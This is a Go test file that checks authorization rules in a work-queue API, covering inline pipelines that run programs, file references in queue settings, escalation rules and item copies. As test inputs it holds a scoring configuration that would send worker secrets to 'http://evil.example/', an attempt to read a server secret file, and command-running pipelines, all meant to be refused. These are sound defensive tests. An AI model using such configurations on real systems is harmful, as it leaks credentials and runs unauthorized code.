package api_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"botwork/internal/api"
	"botwork/internal/api/apitest"
	"botwork/workqueue"
	"botwork/workqueue/access"
)

// inlineExec is a whole pipeline that runs a program, in the forms in which a request can have it.
var inlineExec = []any{
	"steps:\n  - {handler: Exec, with: {command: [id]}}\n",
	`{steps: [{handler: Exec, with: {command: [id]}}]}`,
	map[string]any{"steps": []any{map[string]any{"handler": "Exec", "with": map[string]any{"command": []string{"id"}}}}},
}

// A whole pipeline runs programs with the rights of the worker, so it needs the setting and an editor
// who is not bound to queues, in whatever request it comes.
func TestInlinePipelines(t *testing.T) {
	callers := []struct {
		role   access.Role
		queues []string
		may    bool // with the setting
	}{
		{access.Operator, nil, false},
		{access.Operator, []string{"a"}, false},
		{access.Editor, nil, true},
		{access.Editor, []string{"a"}, false},
		{access.Admin, nil, true},
		{access.Admin, []string{"a"}, false},
		{access.Robot, []string{"a"}, false},
	}
	for _, on := range []bool{false, true} {
		s := apitest.Start(t, func(o *api.Options) { o.Inline = on })
		defineQueue(t, s, workqueue.Queue{Name: "a"})
		made := enqueueInline(t, s, "a")
		for _, c := range callers {
			for i, pipeline := range inlineExec {
				name := fmt.Sprintf("http.inline %v, %s of %q, form %d", on, c.role, c.queues, i)
				t.Run(name, func(t *testing.T) {
					tryInline(t, s, s.Token(t, c.role, c.queues...), c.role, pipeline, made, on && c.may)
				})
			}
		}
	}
}

// enqueueInline enqueues an item that a person on the machine gave a whole pipeline.
func enqueueInline(t *testing.T, s *apitest.Server, queue string) int64 {
	t.Helper()
	made, err := s.Store.Enqueue(t.Context(), []workqueue.NewItem{{QueueName: queue, State: workqueue.Pending, IntegrationConfig: inlineExec[0].(string)}})
	if err != nil {
		t.Fatal(err)
	}
	return made[0].ID
}

// tryInline sends the pipeline in each request that can have one. made is an item that has one.
func tryInline(t *testing.T, s *apitest.Server, token string, role access.Role, pipeline any, made int64, may bool) {
	t.Helper()
	refused := func(what string, a apitest.Answer, success int) {
		t.Helper()
		if may {
			if a.Status != success {
				t.Errorf("%s: got %d %s, want %d", what, a.Status, a.Body, success)
			}
			return
		}
		var p api.Problem
		if err := json.Unmarshal(a.Body, &p); err != nil || a.Status != 403 || p.Code != "inline-pipeline" || !strings.Contains(p.Detail+p.Hint, "http.inline") {
			t.Errorf("%s: got %d %s, want a 403 that names http.inline", what, a.Status, a.Body)
		}
	}
	send := func(method, path string, body any) apitest.Answer {
		t.Helper()
		return s.Do(t, apitest.Request{Method: method, Path: path, Token: token, Body: body})
	}
	if role == access.Robot {
		text, ok := pipeline.(string)
		if !ok {
			return // the field is a text
		}
		refused("robot-items-enqueue", send("POST", "/queues/a/items", map[string]any{"items": []any{map[string]any{"pipeline": text}}}), 201)
		return
	}
	item := map[string]any{"pipeline": pipeline, "queue": "a"}
	refused("items-create", send("POST", "/items", item), 201)
	refused("items-create without a check", send("POST", "/items?noCheck=true", item), 201)
	refused("items-clone", send("POST", fmt.Sprintf("/items/%d/clone", made), nil), 201)
	line, err := json.Marshal(item)
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range importLines(t, s, token, "", string(line)) {
		switch {
		case l.ID != nil && !may:
			t.Errorf("items-import enqueued item %d", *l.ID)
		case l.Problem != nil && (may || l.Problem.Code != "inline-pipeline"):
			t.Errorf("items-import: got %+v", l.Problem)
		}
	}
}

// Copies of many items leave out those with a whole pipeline, unless the caller may create such items.
func TestCopiesOfInlinePipelines(t *testing.T) {
	for _, c := range []struct {
		on   bool
		role access.Role
		want int // copies
	}{{false, access.Operator, 1}, {false, access.Editor, 1}, {true, access.Operator, 1}, {true, access.Editor, 2}} {
		s := apitest.Start(t, func(o *api.Options) { o.Inline = c.on })
		defineQueue(t, s, workqueue.Queue{Name: "a"})
		inline := enqueueInline(t, s, "a")
		create(t, s, `{"pipeline": "p", "queue": "a"}`)
		for _, dry := range []string{"true", "false"} {
			body := `{"filter": {"queue": "a"}, "dryRun": ` + dry + `}`
			got := apitest.Decode[many](t, s.Do(t, apitest.Request{Method: "POST", Path: "/items/actions/clone", Token: s.Token(t, c.role), Body: body}).Want(t, 200))
			if got.Changed != c.want || got.Refused != 2-c.want {
				t.Errorf("http.inline %v, %s, dry run %s: got %+v, want %d copies", c.on, c.role, dry, got, c.want)
			}
			if c.want == 1 && (len(got.Skipped) != 1 || got.Skipped[0].ItemID != inline || !strings.Contains(got.Skipped[0].Message, "http.inline")) {
				t.Errorf("http.inline %v, %s, dry run %s: skipped %+v, want item %d and the setting", c.on, c.role, dry, got.Skipped, inline)
			}
		}
	}
}

// The same item may run again: its pipeline is that of the person who created it.
func TestInlinePipelinesRunAgain(t *testing.T) {
	s := apitest.Start(t, nil)
	id := enqueueInline(t, s, "")
	do(t, s, "POST", "/items/"+itoa(id)+"/cancel", nil).Want(t, 200)
	do(t, s, "POST", "/items/"+itoa(id)+"/repeat", nil).Want(t, 200)
	do(t, s, "POST", "/items/"+itoa(id)+"/run", nil).Want(t, 200)
}

// The settings of a queue that come over HTTP name no files of the server.
func TestQueueSettingsReadNoFiles(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "keyset.json")
	if err := os.WriteFile(secret, []byte(`{"description": "hunter2"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	s := apitest.Start(t, nil)
	for _, key := range []string{"payload", "output", "analytics"} {
		settings := map[string]any{"schemas": map[string]any{key: map[string]any{"file": secret}}}
		for _, r := range []apitest.Request{
			{Method: "PATCH", Path: "/queues/default", Body: map[string]any{"settings": settings}},
			{Method: "POST", Path: "/queues", Body: map[string]any{"name": "new-" + key, "settings": settings}},
		} {
			r.Token = s.Token(t, access.Admin)
			a := s.Do(t, r)
			p := a.WantProblem(t, 422, "invalid-queue")
			if len(p.Errors) != 1 || p.Errors[0].Location != "body.settings.schemas."+key+".file" || strings.Contains(string(a.Body), "hunter2") {
				t.Errorf("%s %s: got %s", r.Method, r.Path, a.Body)
			}
		}
	}
}

// A scoring by a service sends requests with secrets of the workers' settings, so it needs what a
// whole pipeline needs.
func TestQueueSettingsNameNoServices(t *testing.T) {
	body := `{"settings": {"distribution": {"mode": "best-worker", "scoring": {"rule": "http", "http": {"url": "http://evil.example/", "headers": {"Authorization": {"secret": "shop"}}}}}}}`
	patch := func(s *apitest.Server, body string, role access.Role, queues ...string) apitest.Answer {
		return s.Do(t, apitest.Request{Method: "PATCH", Path: "/queues/a", Token: s.Token(t, role, queues...), Body: body})
	}
	for _, on := range []bool{false, true} {
		s := apitest.Start(t, func(o *api.Options) { o.Inline = on })
		defineQueue(t, s, workqueue.Queue{Name: "a"})
		patch(s, body, access.Editor, "a").WantProblem(t, 403, "scoring-service")
		if !on {
			p := patch(s, body, access.Admin).WantProblem(t, 403, "scoring-service")
			if !strings.Contains(p.Detail+p.Hint, "http.inline") {
				t.Errorf("got %+v, want the setting", p)
			}
			q := strings.Replace(body, `{"settings"`, `{"name": "b", "settings"`, 1)
			s.Do(t, apitest.Request{Method: "POST", Path: "/queues", Token: s.Token(t, access.Editor), Body: q}).WantProblem(t, 403, "scoring-service")
			continue
		}
		patch(s, body, access.Editor).Want(t, 200)
		// A bound editor may change the rest of a queue that has one, and remove it, but not change it.
		patch(s, `{"settings": {"ttl": "7d"}}`, access.Editor, "a").Want(t, 200)
		patch(s, strings.Replace(body, "evil", "other", 1), access.Editor, "a").WantProblem(t, 403, "scoring-service")
		patch(s, `{"settings": {"distribution": null}}`, access.Editor, "a").Want(t, 200)
	}
}

// A bound editor moves no items to queues of others by a rule of escalation.
func TestBoundEditorsAndEscalation(t *testing.T) {
	s := apitest.Start(t, nil)
	for _, name := range []string{"a", "b", "c"} {
		defineQueue(t, s, workqueue.Queue{Name: name})
	}
	patch := func(settings string, queues ...string) apitest.Answer {
		return s.Do(t, apitest.Request{Method: "PATCH", Path: "/queues/a", Token: s.Token(t, access.Editor, queues...), Body: `{"settings": ` + settings + `}`})
	}
	rules := func(list ...string) string { return `{"escalation": [` + strings.Join(list, ",") + `]}` }
	const (
		slow = `{"name": "slow", "after": "1d", "moveTo": "b"}`
		fast = `{"name": "slow", "after": "0s", "moveTo": "b"}`
		more = `{"name": "more", "after": "1d", "raise": {"to": 1200}}`
	)
	p := patch(rules(slow), "a").WantProblem(t, 403, "queue-not-allowed")
	if len(p.Errors) != 1 || p.Errors[0].Location != "body.settings.escalation" {
		t.Errorf("got %+v, want the place of the queue", p)
	}
	patch(rules(slow), "a", "b").Want(t, 200) // bound to both
	patch(rules(fast), "a").WantProblem(t, 403, "queue-not-allowed")
	// What the rule of another person says stays, beside other changes.
	patch(`{"ttl": "7d"}`, "a").Want(t, 200)
	patch(rules(slow, more), "a").Want(t, 200)
	patch(rules(more), "a").Want(t, 200)
	patch(rules(slow), "a").WantProblem(t, 403, "queue-not-allowed") // it is gone
	patch(rules(slow)).Want(t, 200)                                  // not bound
	if q, err := s.Store.Queue(t.Context(), "a"); err != nil || !strings.Contains(string(q.Escalation), `"b"`) {
		t.Errorf("got %s, %v", q.Escalation, err)
	}
}

// A copy is made in a queue of the caller, also if the item moves just before.
func TestBoundCopies(t *testing.T) {
	s := apitest.Start(t, nil)
	for _, name := range []string{"a", "b"} {
		defineQueue(t, s, workqueue.Queue{Name: name})
	}
	id := create(t, s, `{"pipeline": "p", "queue": "a"}`)
	do(t, s, "PATCH", "/items/"+itoa(id), `{"queue": "b"}`).Want(t, 200)
	s.Do(t, apitest.Request{Method: "POST", Path: "/items/" + itoa(id) + "/clone", Token: s.Token(t, access.Operator, "a")}).WantProblem(t, 404, "not-found")
	if ids, _ := list(t, s, s.Token(t, access.Operator), ""); !slices.Equal(ids, []int64{id}) {
		t.Errorf("got the items %d", ids)
	}
}
